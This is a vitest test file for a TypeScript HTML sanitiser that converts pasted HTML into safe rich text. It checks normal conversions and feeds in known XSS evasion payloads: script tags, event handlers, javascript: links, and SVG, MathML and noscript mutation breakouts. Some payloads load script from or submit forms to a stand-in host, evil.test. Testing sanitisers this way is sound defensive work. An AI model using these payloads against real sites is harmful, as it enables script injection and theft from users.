import { describe, expect, test } from 'vitest'
import { plainText } from '../doc.rules.ts'
import { docOfHtml } from './doc-of-html.ts'
import { htmlOfDoc } from './write-html.ts'

const id = '0198c0de-0000-7000-8000-000000000001'
const again = (html: string) => htmlOfDoc(docOfHtml(html))

describe('HTML converted to rich text', () => {
  test.each([
    ['plain text becomes paragraphs', 'หนึ่ง\n\nสอง\nสาม', '<p>หนึ่ง</p><p>สอง<br>สาม</p>'],
    ['signs of comparison are text', 'น้อยกว่า <3 & มากกว่า >2', '<p>น้อยกว่า &lt;3 &amp; มากกว่า &gt;2</p>'],
    [
      'stress stays, attributes go',
      '<p class="x" onclick="y()">a <b>b</b></p>',
      '<p>a <strong>b</strong></p>',
    ],
    ['headings are brought into the order of a page', '<h1>A</h1><h6>B</h6>', '<h2>A</h2><h4>B</h4>'],
    [
      'lists stay, also within each other',
      '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>',
      '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>',
    ],
    ['a numbered list keeps its first number', '<ol start="3"><li>c</ol>', '<ol start="3"><li>c</li></ol>'],
    [
      'a table stays with its heads and spans',
      '<table><thead><tr><th colspan="2">ก</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
      '<table><tbody><tr><th colspan="2">ก</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>',
    ],
    [
      'a picture of this site stays with its words',
      `<figure><img src="/media/${id}/640.webp" alt="a &quot;b&quot;" onerror="x"><figcaption>c</figcaption></figure>`,
      `<figure><img src="/media/${id}/1280.webp" alt="a &quot;b&quot;"><figcaption>c</figcaption></figure>`,
    ],
    ['a picture of elsewhere is left out', '<img src="https://a.test/b.jpg"><p>a</p>', '<p>a</p>'],
    [
      'a film stays as the film it is',
      '<iframe src="https://www.youtube.com/embed/abcdefghijk"></iframe>',
      '<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk?rel=0" allowfullscreen></iframe>',
    ],
    [
      'quotations, code and lines stay',
      '<blockquote>a</blockquote><hr><pre>b\n c</pre>',
      '<blockquote><p>a</p></blockquote><hr><pre><code>b\n c</code></pre>',
    ],
    ['unknown elements leave their words', '<font color=red>a</font><custom-x>b</custom-x>', '<p>ab</p>'],
    [
      'a link keeps a safe address',
      '<a href="https://a.test/?a=1&b=2" onmouseover=x>b</a>',
      '<p><a href="https://a.test/?a=1&amp;b=2" rel="nofollow noopener">b</a></p>',
    ],
    [
      'a link within the site stays one',
      '<p><a href="/shop">b</a></p>',
      '<p><a href="/shop" rel="nofollow noopener">b</a></p>',
    ],
    ['what is open is closed', '<ul><li>a<li>b', '<ul><li>a</li><li>b</li></ul>'],
    ['what was never opened is not closed', 'a</p></div>', '<p>a</p>'],
    ['comments are left out, closed or not', '<!-- a --><p>b</p><!-- c', '<p>b</p>'],
    [
      'entities that would be elements stay text',
      '<p>a &lt;script&gt; &amp; b</p>',
      '<p>a &lt;script&gt; &amp; b</p>',
    ],
    ['nothing is nothing', '  ', ''],
    ['empty elements are nothing', '<p></p><div> </div><ul></ul>', ''],
  ])('%s', (_, input, output) => {
    expect(again(input)).toBe(output)
    expect(again(output)).toBe(output)
  })

  // Based on the OWASP filter evasion cheat sheet and published mutation attacks on HTML sanitisers.
  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in odd letters', '<ScRiPt SrC=//evil.test/x.js></sCrIpT>'],
    ['a script inside a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a script that is never closed', '<p>a</p><script>alert(1)'],
    ['a handler', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>'],
    ['a handler after a slash', '<p/onclick=alert(1)>a</p>'],
    ['a handler on a picture', '<img src=x onerror=alert(1)>'],
    ['a picture of a script', '<img src="javascript:alert(1)"><img src="/media/x/../../evil">'],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe>'],
    ['an object', '<object data="javascript:alert(1)"></object><embed src=javascript:alert(1)>'],
    ['a style', '<style>@import "//evil.test"</style><p style="background:url(javascript:alert(1))">a</p>'],
    ['a form', '<form action=//evil.test><input name=a onfocus=alert(1) autofocus></form>'],
    ['a drawing', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
    ['a drawing that breaks out', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    [
      'formulas that break out',
      '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph>',
    ],
    ['a noscript that breaks out', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['a link that runs', '<a href="javascript:alert(1)">a</a>'],
    ['one in disguise', '<a href="java&#115;cript&colon;alert(1)">a</a><a href=" j\tavascript:x">b</a>'],
    ['one that leaves by its scheme', '<a href="//evil.test">a</a><a href="data:text/html,x">b</a>'],
    ['one that hides behind a backslash', '<a href="/\\evil.test">a</a>'],
  ])('only the text of %s remains', (_, input) => {
    const html = again(input)
    const bare = html.replace(/<\/?(p|ul|li|table|tbody|tr|td|h[2-4])>/g, '')
    // Whatever is left is text: no elements, no URLs.
    expect(bare).not.toMatch(/<[a-z/]/i)
    expect(JSON.stringify(docOfHtml(input) ?? '')).not.toMatch(/href|evil/)
  })

  test.each([
    [
      'MathML that names its TeX',
      '<p>a <math alttext="x^2"><msup><mi>x</mi><mn>2</mn></msup></math> b</p>',
      String.raw`a \(x^2\) b`,
    ],
    [
      'MathML on a line of its own',
      '<p><math display="block" alttext="y"><mi>y</mi></math></p>',
      String.raw`\[y\]`,
    ],
    [
      'an image of a formula of Canvas',
      String.raw`<p>a <img class="equation_image" src="https://evil.test/x" data-equation-content="\frac{1}{2}"></p>`,
      String.raw`a \(\frac{1}{2}\)`,
    ],
  ])('%s becomes a formula', (_, html, text) => {
    expect(plainText(docOfHtml(html)!)).toBe(text)
  })

  test('thousands of nested elements leave their text', () => {
    expect(again(`${'<div>'.repeat(5000)}a`)).toBe('<p>a</p>')
  })

  test('its text is searchable', () => {
    expect(plainText(docOfHtml('<h2>a &amp; b</h2><ul><li>c</li></ul>')!)).toBe('a & b\nc')
  })
})
